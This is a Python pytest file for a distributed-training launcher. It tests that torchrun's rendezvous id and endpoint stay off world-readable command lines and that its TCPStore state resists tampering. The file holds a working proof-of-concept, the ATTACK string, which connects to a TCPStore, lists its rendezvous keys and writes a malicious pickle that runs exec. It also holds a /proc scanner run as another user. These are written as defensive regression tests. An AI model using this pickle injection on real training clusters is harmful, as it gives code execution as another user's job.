"""Issue 23 §1: torchrun's rendezvous store is named nowhere another user can read.

torchrun keeps its rendezvous state as a pickle in its c10d TCPStore under the key
``torch.rendezvous.<rdzv-id>``, and every agent unpickles it: whoever writes that key runs code
as the job's user. bv used to pass ``--rdzv-id=<job id>`` and ``--rdzv-endpoint=host:port`` on
torchrun's command line, world-readable in /proc. Now the id is 128 random bits per step and,
like the endpoint, travels in the environment (owner-only /proc/PID/environ).

The REAL supervisor with its real agents (stand-in srun; stand-in or REAL torchrun), and
another uid (``nobody``) that reads /proc as any user of the node can. Each fails on 9058adc.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from bluevela.launch.proctree import descendants
from tests.supervisor_standins import Job

# What another user runs: every process's argv (world-readable) and environment (owner-only).
SCAN = r"""
import json, os, sys
ask = json.loads(sys.stdin.read())  # not on its own command line
words, pids = [w.encode() for w in ask["words"]], ask["pids"]
out = {"cmdlines": 0, "hits": [], "environ_read": [], "supervisor_seen": False}
for pid in pids:
    try:
        open(f"/proc/{pid}/environ", "rb").read()
        out["environ_read"].append(pid)
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    out["cmdlines"] += 1
    if b"bluevela.launch.supervisor" in cmd:
        out["supervisor_seen"] = True
    for w in words:
        if w in cmd:
            out["hits"].append([pid, w.decode(), cmd.replace(b"\0", b" ").decode("utf-8", "replace")])
print(json.dumps(out))
"""


def scan_as(user: str | None, words: list[str], pids: Sequence[int] = ()) -> dict[str, object]:
    """Scan /proc for `words` in any command line, and try to read the environment of
    `pids`, as `user` (None: as this process)."""
    python = "/usr/bin/python3" if user else sys.executable
    argv = [python, "-I", "-c", SCAN]
    if user:
        argv = ["runuser", "-u", user, "--", *argv]
    out = subprocess.run(argv, input=json.dumps({"words": words, "pids": list(pids)}), capture_output=True, text=True,
                         timeout=60, check=True, cwd="/")
    result: dict[str, object] = json.loads(out.stdout)
    return result


def other_user() -> str:
    if os.geteuid() != 0 or not shutil.which("runuser") or not Path("/usr/bin/python3").exists():
        pytest.skip("needs root, runuser and /usr/bin/python3 to act as another user")
    return "nobody"




def step_rdzv(job: Job) -> tuple[str, str]:
    """(id, endpoint) the step's torchruns use, the same on every node."""
    ids = {(job.dir / f"rdzv-id.{n}").read_text() for n in job.nodes}
    ends = {(job.dir / f"rdzv-endpoint.{n}").read_text() for n in job.nodes}
    assert len(ids) == 1 and len(ends) == 1, (ids, ends)
    return ids.pop(), ends.pop()


def test_rendezvous_id_and_endpoint_are_on_no_command_line(tmp_path: Path,
                                                           jobs: list[Job]) -> None:
    """A 2-node step: its torchruns get a 128-bit random id and the endpoint; no command line
    of any process (supervisor, srun, agents, torchrun, workers) names either, and another
    uid that reads every command line learns neither, nor can it read their environments."""
    user = other_user()
    job = Job(tmp_path, ("n1", "n2"))
    jobs.append(job)
    job.start().wait_ready()
    rdzv_id, endpoint = step_rdzv(job)
    assert re.fullmatch(r"[0-9a-f]{32}", rdzv_id), rdzv_id
    host, _, port = endpoint.rpartition(":")
    assert host == "n1" and port.isdigit(), endpoint
    # torch's static rendezvous since issue 37 (c10d only for --max-restarts above 0)
    assert {(tmp_path / f"rdzv-backend.{n}").read_text() for n in job.nodes} == {"static"}
    words = [rdzv_id, endpoint, f":{port}", "--rdzv-id", "--rdzv_id", "--rdzv-endpoint",
             "--rdzv_endpoint", "--rdzv-node"]
    for seen in (scan_as(None, words), scan_as(user, words)):
        assert seen["supervisor_seen"], seen  # the scan did read the job's command lines
        assert seen["hits"] == [], seen["hits"]
    tree = [job.pid, *descendants(job.pid)]
    assert len(tree) >= 7  # supervisor, srun, 2 agents, 2 torchruns, 2 workers
    assert scan_as(None, [], tree)["environ_read"] == tree  # the owner reads them...
    assert scan_as(user, [], tree)["environ_read"] == []  # ...another uid none
    job.finish()
    assert job.wait(60) == 0, job.stdout() + job.stderr()


def test_each_step_has_a_new_rendezvous_id(tmp_path: Path, jobs: list[Job]) -> None:
    """A hang relaunches the step in place: the new step's store has a key the old step's
    processes (and whoever learnt the old one) do not know."""
    job = Job(tmp_path, ("n1",), mode="stall", options=["--hang-timeout=2"])
    jobs.append(job)
    job.start().wait_ready()
    first, _ = step_rdzv(job)
    deadline = time.monotonic() + 40
    while "==== bv attempt 2 job" not in job.stdout() or step_rdzv(job)[0] == first:
        assert time.monotonic() < deadline, job.stdout() + job.stderr()
        assert job.running(), job.stdout() + job.stderr()
        time.sleep(0.1)
    second, _ = step_rdzv(job)
    assert re.fullmatch(r"[0-9a-f]{32}", second) and second != first


REAL_WORKER = r"""
import os, sys, time
out = sys.argv[1]
node = os.environ.get("SLURMD_NODENAME", "?")
# torchrun's own record of what it used: the rendezvous id, the store's host and port.
info = {k: os.environ.get(k, "") for k in ("TORCHELASTIC_RUN_ID", "MASTER_ADDR",
                                           "MASTER_PORT", "PET_RDZV_ENDPOINT", "WORLD_SIZE")}
import json
open(os.path.join(out, "real." + node), "w").write(json.dumps(info))
while not os.path.exists(os.path.join(out, "done")):
    time.sleep(0.1)
"""


def listening_ports(pid: int) -> set[int]:
    """TCP ports process `pid` listens on (its socket inodes in /proc/net/tcp{,6})."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            f = line.split()
            if f[3] == "0A" and f[9] in inodes:  # LISTEN
                ports.add(int(f[1].rsplit(":", 1)[1], 16))
    return ports


ATTACK = r"""
import base64, datetime, sys
import torch.distributed as dist
host, marker, ports = sys.argv[1], sys.argv[2], [int(p) for p in sys.argv[3:]]
for port in ports:
    try:
        store = dist.TCPStore(host, port, is_master=False, timeout=datetime.timedelta(seconds=3))
        # The store tells anyone its keys: a random id hides the state's key from /proc only.
        keys = [k for k in store.list_keys() if k.startswith("torch.rendezvous.") and "/" not in k]
    except Exception:
        continue
    if keys:
        break
print(keys)
class Payload:
    def __reduce__(self):
        return (exec, (f"import os; open({marker!r}, 'w').write(str(os.getpid()))",))
import pickle
for key in keys:
    store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
"""


@pytest.mark.parametrize("restarts", [1, 0], ids=["c10d", "static"])
def test_real_torchrun_store_is_unnamed_and_runs_no_pickle(tmp_path: Path, jobs: list[Job],
                                                           restarts: int) -> None:
    """The REAL torchrun (torch's c10d rendezvous, a real TCPStore) started by the real
    supervisor and agent. First: it rendezvouses with the id and endpoint from PET_RDZV_ID and
    PET_RDZV_ENDPOINT (no flag names them), and another uid finds neither in /proc. Then the
    attack of issue 23 §1 for real: while the step trains, a stranger connects to its
    rendezvous store, lists its keys, and writes a pickle that would run code under the
    state's key. 9058adc: the next keep-alive unpickled it in torchrun and the code ran as the
    job's user. Now torchrun unpickles the state through an allow-list
    (bluevela/launch/rdzv_guard.py): nothing runs. c10d is what bv runs for --max-restarts
    above 0; by default (issue 37) torch's static rendezvous keeps no pickled state at all:
    the stranger finds no such key, and its write runs nothing either.

    The stranger is another process that uses nothing but the store's TCP port; it runs as
    root here only because no other uid can import this machine's torch (under /root, 0700).
    """
    pytest.importorskip("torch.distributed.run")
    user = other_user()
    node = socket.gethostname()
    worker = tmp_path / "worker.py"
    worker.write_text(REAL_WORKER)
    torchrun = Path(sys.executable).parent / "torchrun"
    if not torchrun.exists():
        pytest.skip(f"no {torchrun}")
    job = Job(tmp_path, (node,), argv=[
        sys.executable, "-P", "-m", "bluevela.launch.supervisor", "--nodes=1", "--",
        str(torchrun), "--nproc-per-node=1", "--monitor-interval=0.1",
        f"--max-restarts={restarts}", "--rdzv-conf=keep_alive_interval=1", str(worker),
        str(tmp_path)])
    jobs.append(job)
    job.start()
    job.wait_for(f"real.{node}", timeout=120)
    info = json.loads((tmp_path / f"real.{node}").read_text())
    rdzv_id = info["TORCHELASTIC_RUN_ID"]
    assert re.fullmatch(r"[0-9a-f]{32}", rdzv_id), info
    host, _, port = info["PET_RDZV_ENDPOINT"].rpartition(":")
    assert host == node and port.isdigit(), info
    seen = scan_as(user, [rdzv_id, f"{host}:{port}", "--rdzv-id", "--rdzv_id",
                          "--rdzv-endpoint", "--rdzv_endpoint"])
    assert seen["supervisor_seen"] and seen["hits"] == [], seen

    # The store's port: any user finds the listening ports in /proc/net/tcp and tries them;
    # here, to be quick, only those of the job's torchrun.
    agents = [pid for pid in descendants(job.pid)
              if str(torchrun).encode() in Path(f"/proc/{pid}/cmdline").read_bytes()]
    ports = sorted({port for pid in agents for port in listening_ports(pid)})
    assert int(port) in ports, (port, ports)
    marker = tmp_path / "pwned"
    attack = subprocess.run([sys.executable, "-I", "-c", ATTACK, node, str(marker),
                             *map(str, ports)],
                            capture_output=True, text=True, timeout=60, cwd="/")
    assert attack.returncode == 0, attack.stderr
    if restarts:  # c10d: the store told it the key
        assert f"torch.rendezvous.{rdzv_id}" in attack.stdout
    else:  # static: there is no pickled state to name
        assert "torch.rendezvous." not in attack.stdout, attack.stdout
    time.sleep(4.0)  # four keep-alives: each reads the state back from the store
    assert not marker.exists(), f"the pickle ran as the job's user in pid {marker.read_text()}"
    job.finish()
    job.wait(60)
